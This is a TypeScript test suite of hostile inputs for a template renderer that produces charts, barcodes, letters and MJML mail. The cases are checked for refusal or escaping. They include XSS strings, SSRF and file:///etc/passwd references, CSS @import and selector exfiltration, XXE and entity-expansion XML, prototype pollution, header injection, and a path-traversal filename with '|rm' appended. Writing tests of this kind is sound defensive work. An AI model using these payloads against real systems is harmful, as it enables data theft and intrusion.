import { type HostileCase, inMail, letter, mail, type Surroundings } from './cases.js';

const evil = 'red" onload="go()"><script>go()</script>';
const axes = { xAxis: { data: ['a', 'b'] }, yAxis: {} };
const bars = { type: 'bar', data: [1, 2] };

const chart = (tries: string, option: unknown, more: Partial<HostileCase> = {}): HostileCase => ({
  tries: `a chart with ${tries}`,
  template: letter('{{chart data.option alt="x"}}', { option }),
  refused: 'unsuitable-value',
  drawn: true,
  ...more,
});

const drawings: HostileCase[] = [
  chart('HTML for a colour', { ...axes, color: [evil], series: [bars] }),
  chart('HTML for a font', { ...axes, textStyle: { fontFamily: evil }, series: [bars] }),
  chart('HTML for a background', { ...axes, backgroundColor: evil, series: [bars] }),
  chart('a stranger’s picture', {
    ...axes,
    series: [{ type: 'line', data: [1, 2], symbol: 'image://https://x.example/x.png' }],
  }),
  chart('a file', {
    ...axes,
    series: [bars],
    graphic: [{ type: 'image', style: { image: 'file:///etc/passwd', width: 9, height: 9 } }],
  }),
  chart('a drawing inside a colour', {
    ...axes,
    series: [{ ...bars, itemStyle: { color: 'url(https://x.example/x.svg#a)' } }],
  }),
  chart(
    'HTML for words',
    { ...axes, title: { text: evil }, series: [{ ...bars, name: evil }] },
    {
      refused: undefined,
      shows: /&lt;script&gt;/,
      never: /<script/,
    },
  ),
  chart(
    'programs for formatters, and HTML for tooltips',
    {
      ...axes,
      tooltip: { formatter: '<img src=x onerror=go()>', extraCssText: evil },
      yAxis: { axisLabel: { formatter: 'function(){return process.env}' } },
      series: [{ ...bars, renderItem: 'function(){}' }],
    },
    { refused: undefined, shows: /<svg/, never: /onerror|<script|onload/ },
  ),
  chart(
    'no end of ticks',
    { xAxis: { type: 'value', max: 1e12, interval: 1e-3 }, yAxis: { splitNumber: 1e9 }, series: [bars] },
    { refused: undefined, shows: /<svg/ },
  ),
  chart('of a kind that does not exist', { series: [{ type: 'constructor', data: [1] }] }),
  chart(
    'of a size that no paper has',
    {},
    {
      template: letter('{{chart data.option width=100000 alt="x"}}', { option: { ...axes, series: [bars] } }),
    },
  ),
  ...[
    ['the absurd size', '{{barcode "qrcode" "x" width=1000000 alt="x"}}'],
    ['the absurd length', '{{barcode "code128" data.x alt="x"}}'],
    ['the kind that objects inherit', '{{barcode "constructor" "x" alt="x"}}'],
    ['the level that is an instruction', '{{barcode "qrcode" "x" level="M includetext=true" alt="x"}}'],
  ].map(([what, html]): HostileCase => ({
    tries: `a bar code of ${what}`,
    template: letter(html ?? '', { x: '1'.repeat(5_000) }),
    refused: 'unsuitable-value',
    drawn: true,
  })),
];

const escaped: HostileCase[] = [
  {
    tries: 'what objects inherit',
    template: letter('{{data.toString}}{{data.list.map}}{{#with data.__proto__}}x{{/with}}here', {
      list: [1],
    }),
    shows: /<body>here</,
  },
  {
    tries: 'HTML in the data',
    template: letter('<p id="{{data.x}}">{{data.x}}</p>', { x: `"'><script>go()</script>` }),
    shows: /&quot;&#x27;&gt;&lt;script&gt;/,
    never: /<script>/,
  },
  {
    tries: 'the end of a comment in the data',
    template: letter('<!-- {{data.x}} -->', { x: '--><script>go()</script>' }),
    shows: /--&gt;&lt;script/,
  },
  {
    tries: 'the end of a text area in the data',
    template: letter('<textarea>{{data.x}}</textarea>', { x: '</textarea><script>' }),
    shows: /&lt;\/textarea&gt;/,
  },
  {
    tries: 'statements in the data',
    template: letter('{{data.x}}', { x: '{{{@root.brand}}}{{> h0}}' }),
    shows: /\{\{\{@root\.brand\}\}\}\{\{&gt; h0\}\}/,
  },
  {
    tries: 'a place of ours by its name',
    template: mail(inMail('<p>{{data.x}}</p><a href=tbx0z>x</a>'), { x: '" onclick="go()' }),
    shows: /<a href=tbx0z>/,
  },
  {
    tries: 'headers in a subject',
    template: mail(inMail('x'), { x: 'Hi\r\nBcc: all@x.example\u2028X: y' }, { subject: '{{data.x}}' }),
    format: 'json',
    shows: /"subject":"Hi Bcc: all@x\.example X: y"/,
  },
  {
    tries: 'a subject that reads backwards',
    template: mail(inMail('x'), { x: 'Pay \u202efdp.exe\u202c now' }, { subject: '{{data.x}}' }),
    format: 'json',
    shows: /"subject":"Pay fdp\.exe now"/,
  },
  {
    tries: 'a file name that is a path and reads backwards',
    template: {
      ...letter('x', { x: '../../etc/\u202efdp.exe\u0007|rm' }),
      variants: [{ channel: 'print', document: 'letter', fileName: '{{data.x}}' }],
    },
    format: 'json',
    shows: /"fileName":"[^./"][^/\u202e"]*\.pdf"/,
  },
  {
    tries: 'a language that is a path',
    template: {
      ...letter('{{lang}} {{date "2026-01-02T10:00:00Z" "time"}}'),
      sampleData: { data: {}, customer: { locale: '../../etc/passwd', timeZone: '../../etc/passwd' } },
    },
    shows: /en 10:00/,
  },
];

const html = (tries: string, body: string, { stranger }: Surroundings): HostileCase => ({
  tries: `a letter with ${tries}`,
  template: letter(`${body.replaceAll('STRANGER', stranger)}<p>here</p>`),
  format: 'pdf',
});

const sheet = (tries: string, css: string, { stranger, secrets }: Surroundings): HostileCase => ({
  tries: `a style sheet with ${tries}`,
  template: letter(
    '<input value="s"><p>here</p>',
    {},
    {
      css: css.replaceAll('STRANGER', stranger).replaceAll('SECRETS', secrets),
    },
  ),
  format: 'pdf',
});

/** Refused by the renderer, or printed without what they ask for. */
const printed = (around: Surroundings): HostileCase[] => [
  html('a picture from a private address', '<img alt="" src="STRANGER/x.png">', around),
  html('a private address as a number', '<img alt="" src="http://2130706433/x.png">', around),
  html('a private address in IPv6', '<img alt="" src="http://[::ffff:7f00:1]/x.png">', around),
  html('a picture for each density', '<img alt="" srcset="STRANGER/1x.png 1x">', around),
  html('a form that sends itself', '<form action="STRANGER"><input autofocus></form>', around),
  html(
    'a drawing of strangers',
    '<svg><use href="STRANGER/x.svg#a"/><image href="STRANGER/i"/></svg>',
    around,
  ),
  html('a filter of strangers', '<svg><filter id="f"><feImage href="STRANGER/x"/></filter></svg>', around),
  html('a picture behind letters as numbers', `<p style="background:u\\72l('STRANGER/x')">x</p>`, around),
  sheet('another one inside', '@import "STRANGER/x.css";', around),
  sheet('a file inside', '@import "file://SECRETS/secret.css";', around),
  sheet('letters as numbers', '@\\69mport "STRANGER/x.css";p{background:u\\72l(STRANGER/y)}', around),
  sheet('a stranger’s font', '@font-face{font-family:f;src:url(STRANGER/f.woff2)}p{font-family:f}', around),
  sheet('selectors that tell', 'input[value^="s"]{background:u\\72l(STRANGER/s)}', around),
  sheet('programs of old', 'p{width:expression(go());behavior:url(#x);-moz-binding:none}', around),
];

const asMjml = (tries: string, mjml: string, { secrets, stranger }: Surroundings): HostileCase => ({
  tries: `MJML with ${tries}`,
  template: mail(mjml.replaceAll('SECRETS', secrets).replaceAll('STRANGER', stranger)),
});
const body = '<mj-section><mj-column><mj-text>here</mj-text></mj-column></mj-section>';

const mjml = (around: Surroundings): HostileCase[] => [
  ...['SECRETS/secret.mjml', './secret.mjml', 'secret', 'file://SECRETS/secret.mjml', 'STRANGER/x.mjml'].map(
    (path) =>
      asMjml(
        `a file inside: ${path}`,
        `<mjml><mj-body><mj-include path="${path}"/>${body}</mj-body></mjml>`,
        around,
      ),
  ),
  ...['html', 'css'].map((type) =>
    asMjml(
      `a file inside as ${type}`,
      `<mjml><mj-head><mj-include path="./secret.${type}" type="${type}" css-inline="inline"/></mj-head><mj-body><mj-include path="SECRETS/secret.${type}" type="${type}"/>${body}</mj-body></mjml>`,
      around,
    ),
  ),
  asMjml(
    'a file inside a comment',
    `<mjml><mj-body><!-- <mj-include path="./secret.mjml"/> -->${body}</mj-body></mjml>`,
    around,
  ),
  asMjml(
    'an entity that is a file',
    `<!DOCTYPE x [<!ENTITY a SYSTEM "file://SECRETS/secret.txt">]><mjml><mj-body>${body.replace('here', 'here &a;')}</mj-body></mjml>`,
    around,
  ),
  asMjml(
    'entities that multiply',
    `<!DOCTYPE x [<!ENTITY a "${'x'.repeat(1000)}"><!ENTITY b "${'&a;'.repeat(1000)}">]><mjml><mj-body>${body.replace('here', '&b;&b;here')}</mj-body></mjml>`,
    around,
  ),
  asMjml(
    'a prototype for a class',
    `<mjml><mj-head><mj-attributes><mj-class name="__proto__" polluted="1"/><mj-class name="constructor"><mj-text color="red"/></mj-class></mj-attributes></mj-head><mj-body>${body.replace('<mj-text', '<mj-text mj-class="__proto__ constructor"')}</mj-body></mjml>`,
    around,
  ),
  asMjml(
    'a style sheet that is fetched to be put inline',
    `<mjml><mj-head><mj-style inline="inline">@import url(file://SECRETS/secret.css); @import "STRANGER/x.css"; p{background:url(STRANGER/y)}</mj-style></mj-head><mj-body>${body}</mj-body></mjml>`,
    around,
  ),
];

export const containments = (around: Surroundings): readonly HostileCase[] => [
  ...drawings,
  ...escaped,
  ...printed(around),
  ...mjml(around).map((one) => ({ shows: /here/, ...one })),
  {
    tries: 'a stranger’s font in a mail',
    template: mail(
      `<mjml><mj-head><mj-font name="Evil" href="${around.stranger}/x.css"/></mj-head><mj-body>${body.replace('<mj-text', '<mj-text font-family="Evil"')}</mj-body></mjml>`,
    ),
    refused: 'active-content',
  },
];
